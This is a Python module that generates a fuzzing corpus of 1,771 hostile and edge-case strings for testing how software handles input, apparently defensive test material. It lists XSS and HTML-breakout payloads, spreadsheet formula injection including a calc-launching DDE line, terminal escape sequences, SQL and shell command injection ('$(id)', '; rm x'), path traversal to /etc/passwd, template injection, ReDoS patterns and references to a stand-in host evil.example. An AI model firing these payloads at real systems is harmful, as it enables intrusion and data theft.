"""1,771 strings that mean something to whatever does not treat them as text: some 190 of them in 11 dresses.

Own work; what each is hostile to is general knowledge. Strings are str; a lone surrogate stands for bytes that are no UTF-8
(bytes_of writes it so).
"""
from urllib.parse import quote

ESC, BELL = "\x1b", "\x07"
BIDI = ["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u202c\u2069", "\u200e\u200f", "\u061c"]

PAYLOADS = [
    # mark-up
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</title></head><body>", "</style><style>*{display:none}", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "\"><b onmouseover=alert(1)>", "' onfocus='alert(1)' autofocus='", "`onclick=alert(1)`", "<!--", "-->", "<!-- x --!>", "<![CDATA[", "]]>", "<?php echo 1 ?>", "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<p>x'>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><input name=q>",
    "</table></td></tr>", "<p", "<", ">", "&", "&amp;amp;", "&#x3c;b&#x3e;", "&#0;", "&#xD800;", "&#1114112;", "&notit;", "<math><mtext></mtext><mglyph>", "<noscript><p title='</noscript><img src=x>'>", "<plaintext>",
    "<textarea></textarea>", "</textarea><script>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<style>@import '//evil.example';</style>", "<object data=x>", "<div style='background:url(//evil.example)'>",
    # addresses and code
    "javascript:alert(1)", "JaVaScRiPt&colon;alert(1)", "data:text/html,<b>x</b>", "vbscript:msgbox(1)", "//evil.example", "http://[::1]:80/", "file:///etc/hosts", "https://evil.example/\"><b>", "\\\\evil.example\\share", "https://a@b:c@d/",
    "alert`1`", "\\u003cscript\\u003e", "\\x3cb\\x3e", "\\\"};alert(1);//", "\u2028alert(1)\u2029", "__proto__", "constructor.prototype",
    # cells
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "a,b;c\td", "\"", "\"\"", "\"\"\"\",", "'=1", "sep=;", "\"\r\n\"", ",,,,",
    # terminals
    ESC + "[31mred" + ESC + "[0m", ESC + "[2J" + ESC + "[H", ESC + "]0;title" + BELL, ESC + "]8;;https://evil.example" + ESC + "\\link" + ESC + "]8;;" + ESC + "\\", ESC + "P+q544e" + ESC + "\\", ESC + "[6n", ESC + "c", ESC + "(0lqqk", "\x9b31m", "\x9d0;x\x9c", "\x90q\x9c", "\r\rback", "a\b\b\bb",
    BELL * 9, "\x0e\x0f", "\x7f\x7f", ESC + "[?1049h", ESC + "_x" + ESC + "\\", ESC + "[999999999999C",
    # control characters and no UTF-8
    "\x00", "a\x00b", "\x01\x02\x03", "\x1c\x1d\x1e\x1f", "\x0b\x0c", "\x85", "\udcff\udcfe", "\udcc0\udcaf", "\udced\udca0\udc80", "\udce2\udc82", "\udcf4\udc90\udc80\udc80", "\ufffe\uffff", "\ufffd", "\U0010ffff",
    # direction, width, marks
    *(mark + "gnp.exe" for mark in BIDI), "a\u200bb\u200cc\u200dd\ufeffe", "\u00ad\u00ad", "\u2060\u180e", "e" + "\u0301" * 60, "\u0e49" * 40, "Z\u0351\u036b\u0343", "\u0645\u0631\u062d\u0628\u0627", "\u05e9\u05dc\u05d5\u05dd 123", "\ufdfa" * 20, "\U000e0041\U000e0042", "\ufe0f\ufe0f", "\u3164\u115f", "\u2800",
    # pictures
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\U0001f1ec\U0001f1e7" * 9, "1\ufe0f\u20e3", "\U0001f9d1\U0001f3fd\u200d\U0001f3eb",
    # statements and formats
    "'; DROP TABLE people;--", "1 OR 1=1", "x'||(select 1)||'", "%s%n%x%d", "%", "%%%", "{}", "{0}{1:>99999}", "{name!r}", "${HOME}", "$(id)", "`id`", "; rm x", "| cat", "\\", "\\\\\\", "../../../etc/passwd", "C:\\CON\\NUL",
    # templates
    "{{x}}", "{{{x}}}", "{{&x}}", "{{#exposed}}", "{{/exposed}}", "{{> style}}", "{{=<% %>=}}", "<%= 1 %>", "{% raw %}", "#{1+1}", "[[x]]",
    # numbers and days
    "99999999999999999999", "-0", "1e999", "NaN", "0x7fffffff", "00/00/0000", "31/02/1985", "9999-99-99", "4 July 999999", "\u0661\u0669\u0668\u0665", "\u2168 July 1985",
    # what patterns choke on
    "a" * 3000, "a" * 500 + "!", "((((((((((" * 30, "[" * 300, "(a+)+$", "4/5/" * 200, "born " * 200, "\\" * 400, "x " * 800,
]

DRESSES = [
    lambda s: s,
    lambda s: " " + s,
    lambda s: f"Ann {s} Bell",
    lambda s: f"\"{s}\"",
    lambda s: s + s,
    lambda s: "\n" + s + "\r\n",
    lambda s: quote(s.encode("utf-8", "surrogateescape")),
    lambda s: "\u200b".join(s[:60]),
    lambda s: "\u202e" + s + "\u2066",
    lambda s: "".join(f"&#{ord(c)};" for c in s[:80]),
    lambda s: s.upper() + "\t" + s.lower(),
]

COUNT = 1771


def strings():
    every = []
    for dress in DRESSES:
        every.extend(dress(payload) for payload in PAYLOADS)
    different = list(dict.fromkeys(every))
    return [different[i * len(different) // COUNT] for i in range(COUNT)]


def bytes_of(text):
    """UTF-8, and the very bytes where a lone surrogate stands for one."""
    return text.encode("utf-8", "surrogateescape")


if __name__ == "__main__":
    print(len(PAYLOADS), "strings in", len(DRESSES), "dresses:", len(set(strings())))
